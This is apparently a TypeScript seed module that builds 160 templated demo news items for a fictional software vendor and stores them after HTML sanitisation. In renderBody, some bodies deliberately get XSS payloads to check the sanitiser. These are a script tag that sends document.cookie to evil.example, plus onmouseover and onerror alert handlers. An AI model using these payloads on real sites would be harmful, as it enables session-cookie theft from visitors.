import type { Queryable } from '../db/db.js';
import { sanitizeHtml } from '../lib/sanitize-html.js';
import { createPrng, type Prng } from '../lib/prng.js';
import * as w from './news-words.js';

/** How many demo news items the seed writes (issue 2 asks for at least 120). */
export const DEMO_NEWS_COUNT = 160;
const SPAN_DAYS = 728;
const DAY_MS = 24 * 60 * 60 * 1000;

export interface DemoNewsItem {
  /** Seed ordinal, 1 = oldest; also the key of its generated header images. */
  ordinal: number;
  title: string;
  subtitle: string;
  location: string;
  publicationDate: Date;
  introduction: string;
  /** Raw, unsanitised HTML as an editor might have written it. */
  content: string;
  headerImage: { large: string; medium: string; small: string } | null;
  sales: boolean;
}

interface Story {
  title: string;
  subtitle: string;
  introduction: string;
  paragraphs: string[];
  features?: string[];
  link: { href: string; text: string };
  sales: boolean;
}

const slug = (text: string): string =>
  text
    .toLowerCase()
    .replace(/&/g, '')
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '');

const version = (r: Prng): string => `${r.int(9, 14)}.${r.int(0, 6)}`;

// Each kind of story a vendor newsroom publishes; `sales` marks commercial news that shows the
// account-manager card on the detail page (§2 News detail).
const storyKinds: ((r: Prng) => Story)[] = [
  (r) => {
    const product = r.pick(w.products);
    const v = version(r);
    const [first, ...more] = r.sample(w.featuresByProduct[product], 4);
    return {
      title: r.pick([
        `${product} ${v} release brings ${first}`,
        `What's new in ${product} ${v}: ${first}`,
        `${product} ${v} is here, with ${first}`,
      ]),
      subtitle: `The new ${product} release is rolling out to cloud customers this month`,
      introduction: `Version ${v} of ${product} adds ${first} and a series of smaller improvements requested by customers.`,
      paragraphs: [
        `With this release, ${product} users get ${first}. The update is delivered to every cloud environment in waves, starting with preview environments two weeks ahead of production.`,
      ],
      features: more,
      link: {
        href: `https://community.portico.test/${slug(product)}/release-notes/${v}`,
        text: 'Read the release notes',
      },
      sales: false,
    };
  },
  (r) => {
    const region = r.pick(w.cloudRegions);
    return {
      title: r.pick([
        `Portico opens a new cloud region in ${region}`,
        `New ${region} data centre expands the Portico cloud`,
      ]),
      subtitle: 'More choice for data residency and lower latency',
      introduction: `Customers can now run their Portico cloud environments from our new ${region} data centre.`,
      paragraphs: [
        `The ${region} region meets the same security certifications as our existing cloud regions. New environments can be created there today; existing environments can move during a planned maintenance window.`,
      ],
      link: { href: 'https://community.portico.test/cloud/regions', text: 'See all cloud regions' },
      sales: r.chance(0.15),
    };
  },
  (r) => {
    const company = r.pick(w.partnerCompanies);
    const location = r.pick(w.locations);
    const industry = r.pick(w.industries);
    return {
      title: r.pick([
        `${company} joins the Portico partner network`,
        `Welcome to ${company}, our new partner for ${industry}`,
        `${company} becomes a certified Portico partner`,
      ]),
      subtitle: `A new implementation partner for ${industry}`,
      introduction: `${company}, based in ${location}, becomes a certified Portico partner for ${industry}.`,
      paragraphs: [
        `As a partner, ${company} will sell, implement and support Portico solutions for organisations in ${industry}. Its consultants have completed the partner certification on the learning platform.`,
      ],
      link: { href: 'https://salespartners.portico.test/directory', text: 'Find a partner' },
      sales: r.chance(0.3),
    };
  },
  (r) => {
    const customer = r.pick(w.customers);
    const [achievement, product] = r.pick(w.achievements);
    const Customer = `${customer.charAt(0).toUpperCase()}${customer.slice(1)}`;
    return {
      title: r.pick([
        `Customer story: how ${customer} ${achievement}`,
        `${Customer} ${achievement} with ${product}`,
      ]),
      subtitle: `${product} in daily use`,
      introduction: `${Customer} ${achievement} with ${product}.`,
      paragraphs: [
        `The project team worked with a Portico partner to move from a patchwork of tools to ${product} in the cloud. The finance and HR teams now work from the same data.`,
      ],
      link: {
        href: 'https://resources.portico.test/customer-stories',
        text: 'More customer stories',
      },
      sales: r.chance(0.3),
    };
  },
  (r) => {
    const topic = r.pick(w.topics);
    const industry = r.pick(w.industries);
    return {
      title: r.pick([`Webinar: ${topic} for ${industry}`, `Live demo: ${topic} in ${industry}`]),
      subtitle: 'Join our experts for a live session with questions and answers',
      introduction: `In this free webinar our specialists show how organisations in ${industry} approach ${topic}.`,
      paragraphs: [
        `The session lasts forty-five minutes and ends with questions from the audience. A recording is shared with everyone who registers.`,
      ],
      link: { href: 'https://learning.portico.test/webinars', text: 'Register for the webinar' },
      sales: false,
    };
  },
  (r) => {
    const product = r.pick(w.products);
    const [first, ...more] = r.sample(w.featuresByProduct[product], 3);
    return {
      title: r.pick([
        `${product} roadmap update: ${first} and more`,
        `Coming soon to ${product}: ${first}`,
      ]),
      subtitle: 'What is coming in the next two release cycles',
      introduction: `Our product team shares the plans for ${product}, with ${first} as the headline.`,
      paragraphs: [
        `The roadmap is shaped by the ideas customers and partners vote for in the community. Dates are indicative and may change.`,
      ],
      features: more,
      link: {
        href: `https://community.portico.test/${slug(product)}/roadmap`,
        text: 'Vote on ideas',
      },
      sales: false,
    };
  },
  (r) => {
    const region = r.pick(w.cloudRegions);
    const when = r.pick(w.maintenanceWindows);
    return {
      title: r.pick([
        `Planned maintenance of the ${region} cloud environment ${when}`,
        `${region} cloud region: infrastructure upgrade ${when}`,
      ]),
      subtitle: 'Short service window on a Saturday night',
      introduction: `Environments hosted in ${region} will be unavailable for up to two hours during planned maintenance.`,
      paragraphs: [
        `During the window we apply infrastructure updates that cannot be rolled out without downtime. Scheduled jobs are postponed and resume automatically afterwards.`,
      ],
      link: { href: 'https://support.portico.test/status', text: 'Check the service status' },
      sales: false,
    };
  },
  (r) => {
    const theme = r.pick(w.themes);
    return {
      title: r.pick([
        `Partner summit: ${theme}`,
        `Save the date: partner summit on ${theme}`,
        `Partner summit recap: ${theme}`,
      ]),
      subtitle: 'Two days of keynotes, workshops and networking',
      introduction: `This year's partner summit focuses on ${theme}.`,
      paragraphs: [
        `Partners meet the product teams, see the coming release in hands-on workshops and share what works with their peers.`,
      ],
      link: { href: 'https://salespartners.portico.test/summit', text: 'See the agenda' },
      sales: r.chance(0.2),
    };
  },
  (r) => {
    const component = r.pick(w.components);
    const v = version(r);
    return {
      title: r.pick([
        `Security advisory: ${component} ${v}`,
        `Security update ${v} for ${component}`,
      ]),
      subtitle: 'Cloud environments are already protected',
      introduction: `We have released version ${v} of ${component} to fix a vulnerability reported through our disclosure programme.`,
      paragraphs: [
        `Cloud environments were updated automatically. On-premises customers should install the update; there is no evidence the issue has been exploited.`,
      ],
      link: { href: 'https://support.portico.test/security', text: 'Read the advisory' },
      sales: false,
    };
  },
  (r) => {
    const category = r.pick(w.categories);
    return {
      title: r.pick([
        `Portico named a leader in ${category}`,
        `Analysts rank Portico among the leaders in ${category}`,
      ]),
      subtitle: 'Independent analysts recognise our vision and execution',
      introduction: `An independent analyst report places Portico among the leaders in ${category}.`,
      paragraphs: [
        `The report highlights our cloud platform, the depth of our industry solutions and the strength of our partner network.`,
      ],
      link: { href: 'https://resources.portico.test/analyst-reports', text: 'Download the report' },
      sales: r.chance(0.3),
    };
  },
];

// Kinds with many word combinations come up more often, so titles rarely repeat. Order as
// storyKinds: release, cloud region, partner, customer story, webinar, roadmap, maintenance,
// summit, security, analysts.
const storyWeights = [3, 1, 2, 3, 2, 2, 1, 1, 1, 1];
const weightedKinds = storyKinds.flatMap((kind, i) =>
  Array.from({ length: storyWeights[i] ?? 1 }, () => kind),
);

const escapeHtml = (text: string): string =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

function renderBody(r: Prng, story: Story, extra: { rare?: string; unsafe: boolean }): string {
  const parts = story.paragraphs.map((p) => `<p>${escapeHtml(p)}</p>`);
  if (story.features && story.features.length > 0) {
    parts.push('<h3>Highlights</h3>');
    parts.push(
      `<ul>${story.features.map((f) => `<li>${escapeHtml(f.charAt(0).toUpperCase() + f.slice(1))}</li>`).join('')}</ul>`,
    );
  }
  if (extra.rare) parts.push(`<p>${escapeHtml(extra.rare)}</p>`);
  if (r.chance(0.6)) {
    const [name, role] = r.pick(w.spokespeople);
    parts.push(
      `<blockquote><p>“${escapeHtml(r.pick(w.quotes))}.”</p><p>${name}, ${role}</p></blockquote>`,
    );
  }
  // Links to other sites open in a new tab; the sanitiser adds rel="noopener noreferrer".
  parts.push(
    `<p><a href="${story.link.href}" target="_blank">${escapeHtml(story.link.text)}</a></p>`,
  );
  parts.push(`<p>${escapeHtml(r.pick(w.closings))}</p>`);
  // A few bodies carry what a careless editor might paste; it must never survive the seed.
  if (extra.unsafe) {
    parts.push('<script>document.location="https://evil.example/?c="+document.cookie</script>');
    parts.push('<p onmouseover="alert(1)">Share this article</p><img src="x" onerror="alert(1)">');
  }
  return parts.join('\n');
}

/** Builds the demo news, oldest first, spread over the two years before `now`. Same text every run. */
export function buildDemoNews(now: Date, count = DEMO_NEWS_COUNT): DemoNewsItem[] {
  const r = createPrng(20260305);
  const rareByOrdinal = new Map<number, string>();
  w.rareDetails.forEach((detail, i) =>
    rareByOrdinal.set(Math.floor(((i + 0.5) * count) / w.rareDetails.length), detail),
  );
  const items: DemoNewsItem[] = [];
  for (let ordinal = 1; ordinal <= count; ordinal++) {
    const story = r.pick(weightedKinds)(r);
    // Newest (ordinal = count) lands within the last day; the oldest just inside two years.
    const ageDays = ((count - ordinal) / count) * SPAN_DAYS + r.next() * (SPAN_DAYS / count) * 0.8;
    const publicationDate = new Date(
      now.getTime() - Math.round(ageDays * DAY_MS) - r.int(0, 3600) * 1000,
    );
    const withImage = r.chance(0.8);
    const sales = story.sales || r.chance(0.03);
    const rare = rareByOrdinal.get(ordinal);
    const content = renderBody(r, story, { ...(rare ? { rare } : {}), unsafe: ordinal % 37 === 0 });
    items.push({
      ordinal,
      title: story.title,
      subtitle: story.subtitle,
      location: r.pick(w.locations),
      publicationDate,
      introduction: story.introduction,
      content,
      headerImage: withImage
        ? {
            large: `/media/news/${ordinal}-large.svg`,
            medium: `/media/news/${ordinal}-medium.svg`,
            small: `/media/news/${ordinal}-small.svg`,
          }
        : null,
      sales,
    });
  }
  return items;
}

// The bodies never change between runs; sanitising (jsdom) is the slow part of seeding, and
// test suites seed many PostgreSQL schemas in one process.
const sanitized = new Map<string, string>();
const sanitizeOnce = (html: string): string => {
  let clean = sanitized.get(html);
  if (clean === undefined) {
    clean = sanitizeHtml(html);
    sanitized.set(html, clean);
  }
  return clean;
};

export async function seedNews(tx: Queryable, now: Date): Promise<void> {
  const items = buildDemoNews(now);
  const column = <T>(pick: (n: DemoNewsItem) => T): T[] => items.map(pick);
  // One statement for all rows: 160 round trips cost seconds on a busy machine.
  await tx.query(
    `insert into news (title, subtitle, location, publication_date, introduction, content,
                       header_image_large, header_image_medium, header_image_small, sales)
     select * from unnest($1::text[], $2::text[], $3::text[], $4::timestamptz[], $5::text[],
                          $6::text[], $7::text[], $8::text[], $9::text[], $10::boolean[])
     order by 4`,
    [
      column((n) => n.title),
      column((n) => n.subtitle),
      column((n) => n.location),
      column((n) => n.publicationDate.toISOString()),
      column((n) => n.introduction),
      column((n) => sanitizeOnce(n.content)),
      column((n) => n.headerImage?.large ?? null),
      column((n) => n.headerImage?.medium ?? null),
      column((n) => n.headerImage?.small ?? null),
      column((n) => n.sales),
    ],
  );
}
